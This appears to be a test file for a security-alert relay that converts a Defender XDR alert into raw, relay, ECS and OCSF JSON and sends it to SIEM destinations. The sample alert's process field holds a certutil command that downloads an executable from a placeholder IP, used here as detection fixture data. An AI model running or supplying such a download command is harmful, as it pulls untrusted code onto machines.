/** What each shape makes of a row, and that every destination for machines sends it. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { textOf } from '../../lab/delivery.ts';
import { alertFacts } from '../../src/destinations/alert-record.ts';
import { createDestination } from '../../src/destinations/create.ts';
import { DESTINATIONS, destinationSchema } from '../../src/destinations/list.ts';
import { SHAPES, type Shape, writeShape } from '../../src/destinations/shapes.ts';
import { nodeFiles } from '../../src/hosts/node/files.ts';
import { nodeHttpClient } from '../../src/hosts/node/http.ts';
import { nodeKafkaClient } from '../../src/hosts/node/kafka/client.ts';
import { parseExact } from '../../src/shared/exact-numbers.ts';
import { anyValue } from '../../src/shared/otlp-values.ts';
import { depsOf } from './deps.ts';
import { asDocumented } from './documented.ts';
import { alert, deliveryOf, envelope } from './samples.ts';

const sample = alert(7);

/** An alert is a record of its own, which repeats the row only once. */
const RECORD = {
  kind: 'alert',
  id: 'a1e47000000000000000000000000007',
  event_id: '00000000000000000000000000000007',
  time: '2026-11-23T07:01:02.1234567Z',
  received: '2026-11-23T07:03:00.0000000Z',
  tenant: '11111111-2222-3333-4444-555555555555',
  table: 'DeviceProcessEvents',
  severity: 'high',
  title: 'Download with certutil',
  rule: {
    id: 'e011a729-98a6-4139-b5c4-bf6f6dd8239a',
    title: 'Download with certutil',
    level: 'high',
    description: 'certutil fetches a file, which administrators seldom do.',
    tags: ['attack.command-and-control', 'attack.t1105'],
    falsepositives: ['Certificate roll-outs'],
  },
  matched: [{ column: 'FileName', value: 'certutil.exe' }],
  attack: {
    tactics: [{ name: 'Command and Control', id: 'TA0011' }],
    techniques: [{ id: 'T1105', name: 'Ingress Tool Transfer' }],
  },
  entities: [
    {
      kind: 'host',
      name: 'ws-042.contoso.example',
      id: 'd3adb33fd3adb33fd3adb33fd3adb33fd3adb33f',
      column: 'DeviceName',
    },
    { kind: 'user', name: 'alice@contoso.example', column: 'AccountUpn' },
    { kind: 'process', name: 'certutil.exe', column: 'FileName' },
    { kind: 'process', name: 'cmd.exe', column: 'InitiatingProcessFileName' },
    { kind: 'file', name: 'certutil.exe', column: 'FileName' },
  ],
  links: [
    {
      label: 'Device',
      url: 'https://security.microsoft.com/machines/v2/d3adb33fd3adb33fd3adb33fd3adb33fd3adb33f?tid=11111111-2222-3333-4444-555555555555',
    },
  ],
  event: sample.event,
  source: sample.source,
};

/** The sample in each shape. A shape without an entry does not compile. */
const EXPECTED: Readonly<Record<Shape, unknown>> = {
  raw: RECORD,
  relay: RECORD,
  ecs: {
    '@timestamp': '2026-11-23T07:01:02.1234567Z',
    ecs: {
      version: '9.4.0',
    },
    event: {
      kind: 'alert',
      module: 'microsoft_defender_xdr',
      dataset: 'microsoft_defender_xdr.device_process_events',
      id: 'a1e47000000000000000000000000007',
      created: '2026-11-23T07:03:00.0000000Z',
      severity: 4,
      category: ['process'],
      type: ['info'],
    },
    organization: {
      id: '11111111-2222-3333-4444-555555555555',
    },
    message: 'Download with certutil',
    tags: ['attack.command-and-control', 'attack.t1105'],
    rule: {
      name: 'Download with certutil',
      id: 'e011a729-98a6-4139-b5c4-bf6f6dd8239a',
      description: 'certutil fetches a file, which administrators seldom do.',
    },
    threat: {
      framework: 'MITRE ATT&CK',
      tactic: {
        name: ['Command and Control'],
        id: ['TA0011'],
      },
      technique: {
        id: ['T1105'],
        name: ['Ingress Tool Transfer'],
      },
    },
    related: {
      hosts: ['ws-042.contoso.example'],
      user: ['alice@contoso.example'],
    },
    host: {
      id: 'd3adb33fd3adb33fd3adb33fd3adb33fd3adb33f',
      name: 'ws-042.contoso.example',
    },
    process: {
      name: 'certutil.exe',
      command_line: 'certutil.exe -urlcache -f http://203.0.113.9/a.exe',
      parent: {
        name: 'cmd.exe',
      },
    },
    user: {
      email: 'alice@contoso.example',
    },
    microsoft: {
      defender_xdr: {
        ReportId: 7,
      },
    },
    xdr_relay: {
      blob: sample.source.blob,
      offset: 11550,
      event_id: '00000000000000000000000000000007',
      matched: [
        {
          column: 'FileName',
          value: 'certutil.exe',
        },
      ],
    },
  },
  ocsf: {
    activity_id: 1,
    activity_name: 'Create',
    category_uid: 2,
    class_uid: 2004,
    class_name: 'Detection Finding',
    metadata: {
      log_name: 'AdvancedHunting-DeviceProcessEvents',
      original_time: '2026-11-23T07:01:02.1234567Z',
      product: {
        name: 'Microsoft Defender XDR',
        vendor_name: 'Microsoft',
      },
      tenant_uid: '11111111-2222-3333-4444-555555555555',
      uid: 'a1e47000000000000000000000000007',
      version: '1.8.0',
    },
    observables: [
      {
        name: 'device.hostname',
        type_id: 1,
        type: 'Hostname',
        value: 'ws-042.contoso.example',
      },
    ],
    severity_id: 4,
    time: 1795417262123,
    type_uid: 200401,
    finding_info: {
      uid: 'a1e47000000000000000000000000007',
      title: 'Download with certutil',
      desc: 'certutil fetches a file, which administrators seldom do.',
      analytic: {
        name: 'Download with certutil',
        uid: 'e011a729-98a6-4139-b5c4-bf6f6dd8239a',
        type_id: 1,
      },
      attacks: [
        {
          technique: {
            uid: 'T1105',
            name: 'Ingress Tool Transfer',
          },
          tactics: [
            {
              name: 'Command and Control',
              uid: 'TA0011',
            },
          ],
        },
      ],
      related_events: [
        {
          uid: '00000000000000000000000000000007',
        },
      ],
    },
    is_alert: true,
    message: 'Download with certutil',
    status_id: 1,
    device: {
      uid: 'd3adb33fd3adb33fd3adb33fd3adb33fd3adb33f',
      hostname: 'ws-042.contoso.example',
      type_id: 0,
    },
    unmapped: {
      Timestamp: '2026-11-23T07:01:02.1234567Z',
      AccountUpn: 'alice@contoso.example',
      FileName: 'certutil.exe',
      InitiatingProcessFileName: 'cmd.exe',
      ProcessCommandLine: 'certutil.exe -urlcache -f http://203.0.113.9/a.exe',
      ReportId: 7,
      xdr_relay: {
        blob: sample.source.blob,
        offset: 11550,
        event_id: '00000000000000000000000000000007',
        matched: [
          {
            column: 'FileName',
            value: 'certutil.exe',
          },
        ],
      },
    },
  },
};

const plain = envelope(3);
const MATCH = { column: 'FileName', value: 'a.exe' };

/** An event in each shape, as far as the shape's own way of saying so goes. */
const PLAIN: Readonly<Record<Shape, object>> = {
  raw: { category: 'AdvancedHunting-DeviceProcessEvents', properties: plain.event },
  relay: { kind: 'event', ...plain },
  ecs: { event: { kind: 'event', id: plain.id } },
  ocsf: { class_uid: 0, metadata: { uid: plain.id } },
};

const MACHINES = DESTINATIONS.filter(({ audience }) => audience === 'machines');
const deps = { ...depsOf(nodeHttpClient), files: nodeFiles, kafka: nodeKafkaClient };

/** Texts as JSON may have to escape them, short and long. */
const hostile = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.constantFrom('', '"', '\\', '\u0000', '\ud800', 'é', '\u2028', 'a'.repeat(41)),
);
const heads = fc.record(
  {
    id: hostile,
    time: hostile,
    received: hostile,
    tenant: hostile,
    table: hostile,
    severity: fc.constantFrom('low' as const, 'critical' as const),
    source: fc.record(
      { name: hostile, blob: hostile, offset: fc.maxSafeNat() },
      { requiredKeys: ['blob', 'offset'] },
    ),
  },
  { requiredKeys: ['id', 'time', 'table', 'source'] },
);

describe('an event of the shape relay', () => {
  it('is the text of its object, whatever its members hold', () => {
    fc.assert(
      fc.property(heads, (head) => {
        const { source, ...others } = head;
        const { id, time, received, tenant, table, severity } = others;
        const event = { n: 1 };
        const { name, blob, offset } = source;
        const expected = { kind: 'event', id, time, received, tenant, table, severity, event };
        expect(
          textOf((writer) => writeShape('relay', deliveryOf({ ...others, event, source }), writer)),
        ).toBe(JSON.stringify({ ...expected, source: { name, blob, offset } }));
      }),
      { numRuns: 500 },
    );
  });

  it('is in HEC beside fields that are the text of their object, whatever they hold', () => {
    const { encoding } = createDestination(
      'splunk',
      destinationSchema.parse({
        type: 'splunk_hec',
        url: 'https://splunk.example',
        token: 't',
        shape: 'relay',
      }),
      deps,
    );
    fc.assert(
      fc.property(heads, hostile, ({ source, ...others }, host) => {
        const event = { DeviceName: host };
        const text = textOf((writer) => encoding.write(deliveryOf({ ...others, event, source }), writer));
        const { name, blob, offset } = source;
        const fields = { kind: 'event', event_id: others.id, source_name: name, blob, offset };
        expect(text.endsWith(`,"fields":${JSON.stringify({ ...fields, severity: others.severity })}}`)).toBe(
          true,
        );
        expect(JSON.parse(text)).toMatchObject({ source: blob, ...(host !== '' && { host }) });
      }),
      { numRuns: 500 },
    );
  });
});

describe.each(SHAPES)('the shape %s', (shape) => {
  it('has these keys and values', () => {
    expect(JSON.parse(textOf((writer) => writeShape(shape, deliveryOf(sample), writer)))).toEqual(
      EXPECTED[shape],
    );
  });

  it('is one line of JSON, whatever the row holds', () => {
    fc.assert(
      fc.property(fc.dictionary(fc.string(), fc.jsonValue()), (event) => {
        // The type of jsonValue is wider than JsonObject; its values are JSON.
        const delivery = deliveryOf(alert(1, { event: JSON.parse(JSON.stringify(event)) }));
        const text = textOf((writer) => writeShape(shape, delivery, writer));
        expect(text).not.toContain('\n');
        const value: unknown = JSON.parse(text);
        if (shape === 'raw' || shape === 'relay') asDocumented(value);
      }),
    );
  });

  it('has this event', () => {
    expect(JSON.parse(textOf((writer) => writeShape(shape, deliveryOf(plain), writer)))).toMatchObject(
      PLAIN[shape],
    );
  });

  // In a table, the columns of the shape `raw` are columns: test/destinations/sentinel.test.ts.
  const sending = MACHINES.filter(({ type }) => shape !== 'raw' || type !== 'sentinel');
  it.each(sending)('is what $type sends', async ({ least }) => {
    const whole = least.type === 'splunk_hec' ? { alert_columns: true } : {};
    const destination = createDestination(
      'tested',
      destinationSchema.parse({ ...least, ...whole, shape }),
      deps,
    );
    for (const delivery of [deliveryOf(sample), deliveryOf(plain)]) {
      const payload = textOf((writer) => destination.encoding.write(delivery, writer));
      // Members that a type needs may stand before those of the shape; where a product wants text, it is a string in the JSON, and where
      // it wants typed values, a map of them.
      const own = textOf((writer) => writeShape(shape, delivery, writer));
      const forms = [own.slice(1), JSON.stringify(own), JSON.stringify(anyValue(parseExact(own)))];
      expect(forms.some((text) => payload.includes(text))).toBe(true);
    }
    await destination.close();
  });
});

it('cuts what is matched, and says so', () => {
  const long = 'x'.repeat(100_000);
  const matched = [{ column: 'Script', value: long }, ...Array.from({ length: 99 }, () => MATCH)];
  const many = alertFacts(deliveryOf(alert(1, { rule: { title: 'Many', matched } })));
  expect(many.matched).toHaveLength(50);
  expect(many.matched[0]).toEqual({ column: 'Script', value: 'x'.repeat(4_096), cut: true });
  expect(many.matched[1]).toEqual(MATCH);
  const list = [...long].slice(0, 5_000);
  const inList = alertFacts(
    deliveryOf(alert(1, { rule: { title: 'A', matched: [{ column: 'L', value: list }] } })),
  );
  expect(inList.matched[0]).toMatchObject({ cut: true, value: expect.stringMatching(/^\["x"/) });
});

describe('an alert whose title names columns, and whose rule names a sub-technique', () => {
  const title = 'ws-042: encoded PowerShell';
  const made = alert(1, { title, rule: { title: 'Encoded PowerShell', tags: ['attack.t1059.001'] } });
  const sent = (shape: Shape) => JSON.parse(textOf((writer) => writeShape(shape, deliveryOf(made), writer)));

  it('has both titles in relay and raw', () => {
    for (const shape of ['relay', 'raw'] as const) {
      expect(sent(shape)).toMatchObject({ title, rule: { title: 'Encoded PowerShell' } });
    }
  });

  it('has both titles and the technique by name in ECS', () => {
    expect(sent('ecs')).toMatchObject({
      message: title,
      rule: { name: 'Encoded PowerShell' },
      threat: {
        technique: {
          id: ['T1059'],
          name: ['Command and Scripting Interpreter'],
          subtechnique: { id: ['T1059.001'], name: ['PowerShell'] },
        },
      },
    });
  });

  it('has both titles and the technique by name in OCSF', () => {
    expect(sent('ocsf')).toMatchObject({
      message: title,
      finding_info: {
        title,
        analytic: { name: 'Encoded PowerShell' },
        attacks: [
          {
            technique: { uid: 'T1059', name: 'Command and Scripting Interpreter' },
            sub_technique: { uid: 'T1059.001', name: 'PowerShell' },
          },
        ],
      },
    });
  });
});
